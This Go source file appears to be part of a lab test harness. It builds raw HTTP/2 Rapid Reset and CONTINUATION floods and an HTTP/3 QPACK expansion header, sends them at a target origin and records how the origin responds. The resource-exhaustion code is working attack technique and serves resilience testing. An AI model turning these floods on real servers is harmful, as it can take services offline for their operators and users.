package bypass

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"os"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
	"github.com/quic-go/quic-go/quicvarint"

	"github.com/originpull/originpull/wire"
)

// What F06 and F07 send.
const (
	rapidResets   = 200     // streams, opened and reset
	continuations = 24      // frames of a header without an end
	continuation  = 1 << 14 // bytes of each
	qpackLines    = 40_000  // references to the static table
)

// Frames of HTTP/2 (RFC 9113, section 6).
const (
	frameHeaders      = 1
	frameReset        = 3
	frameSettings     = 4
	framePing         = 6
	frameGoAway       = 7
	frameContinuation = 9
	endOfStream       = 1
	endOfHeaders      = 4
)

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind))
	b = binary.BigEndian.AppendUint32(append(b, flags), stream)
	return append(b, payload...)
}

// protectedHeader asks for the protected object, in HPACK of the static table
// and plain literals (RFC 7541, section 6).
func protectedHeader() []byte {
	b := []byte{0x82, 0x87} // GET, https
	b = append(append(b, 0x04, byte(len(protectedPath))), protectedPath...)
	return append(append(b, 0x01, byte(len(Host))), Host...)
}

// streamFlood resets streams and continues headers, by turns.
func streamFlood(ctx context.Context, l *Lab, n int) (burst, error) {
	raw, err := l.attack(ctx)
	if err != nil {
		return burst{}, err
	}
	cfg := l.clientConfig(Try{})
	cfg.NextProtos = []string{"h2"}
	conn := tls.Client(raw, cfg)
	if err := conn.HandshakeContext(ctx); err != nil {
		return spent(raw, "refused at tls"), raw.Close()
	}
	out := append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(frameSettings, 0, 0, nil)...)
	if n%2 == 0 {
		for i := range uint32(rapidResets) {
			out = append(out, frame(frameHeaders, endOfStream|endOfHeaders, 2*i+1, protectedHeader())...)
			out = append(out, frame(frameReset, 0, 2*i+1, []byte{0, 0, 0, 8})...)
		}
	} else {
		out = append(out, frame(frameHeaders, endOfStream, 1, protectedHeader())...)
		for range continuations {
			out = append(out, frame(frameContinuation, 0, 1, make([]byte, continuation))...)
		}
	}
	// The origin may have ended it in the middle.
	_, _ = conn.Write(append(out, frame(framePing, 0, 0, make([]byte, 8))...))
	ended := answered(conn)
	b := spent(raw, ended)
	if ended == "" {
		b.open = conn
		return b, nil
	}
	return b, raw.Close()
}

// streamPatience is how long the origin has to say what it makes of it all.
const streamPatience = 300 * time.Millisecond

// answered waits for GOAWAY, for the answer to PING or for the end; "" when
// nothing of the kind came.
func answered(conn *tls.Conn) string {
	if conn.SetReadDeadline(time.Now().Add(streamPatience)) != nil {
		return ""
	}
	header := make([]byte, 9)
	for {
		if _, err := io.ReadFull(conn, header); err != nil {
			if errors.Is(err, os.ErrDeadlineExceeded) {
				return ""
			}
			return "closed"
		}
		length := int64(header[0])<<16 | int64(header[1])<<8 | int64(header[2])
		if _, err := io.CopyN(io.Discard, conn, length); err != nil {
			return "closed"
		}
		switch {
		case header[3] == frameGoAway:
			return "sent away"
		case header[3] == framePing && header[4] == 1:
			return "taken"
		}
	}
}

// qpackFlood sends a header that is small on the wire and large in memory.
func qpackFlood(ctx context.Context, l *Lab, _ int) (burst, error) {
	ctx, cancel := context.WithTimeout(ctx, quicPatience)
	defer cancel()
	packets, err := wire.Dialer{Source: l.Attacker}.OpenPackets(ctx, l.Target)
	if err != nil {
		return burst{}, fmt.Errorf("opening a socket on %s: %w", l.Attacker, err)
	}
	cfg := l.clientConfig(Try{})
	cfg.NextProtos = []string{http3.NextProtoH3}
	conn, _, err := wire.HandshakeQUIC(ctx, packets, wire.QUICConfig{Target: l.Target, TLS: cfg})
	ended := "no handshake"
	if err == nil {
		ended = expand(ctx, conn.Conn)
		_ = conn.Close(uint64(http3.ErrCodeNoError)) // the attempt's own
	}
	counts := packets.Counts()
	return burst{sent: counts.Sent, received: counts.Received, ended: ended}, nil
}

// expand sends the header on a stream of its own, and says how it was taken.
func expand(ctx context.Context, conn *quic.Conn) string {
	control, err := conn.OpenUniStream()
	if err != nil {
		return "no stream"
	}
	// The stream's kind, and SETTINGS without any.
	if _, err = control.Write([]byte{0, 4, 0}); err != nil {
		return "no stream"
	}
	stream, err := conn.OpenStreamSync(ctx)
	if err != nil {
		return "no stream"
	}
	// No dynamic table; GET, https and / of the static one (RFC 9204, appendix
	// A), the authority, and content types of 40 bytes in one byte each.
	section := append([]byte{0, 0, 0xd1, 0xd7, 0xc1, 0x50, byte(len(Host))}, Host...)
	for range qpackLines {
		section = append(section, 0xf4)
	}
	out := quicvarint.Append(quicvarint.Append(nil, frameHeaders), uint64(len(section)))
	_, wrote := stream.Write(append(out, section...))
	if wrote == nil {
		wrote = stream.Close()
	}
	if err := stream.SetReadDeadline(time.Now().Add(quicPatience / 2)); err != nil {
		return "no answer"
	}
	if _, err := stream.Read(make([]byte, 1)); err != nil || wrote != nil {
		return "reset by the origin"
	}
	return "answered"
}
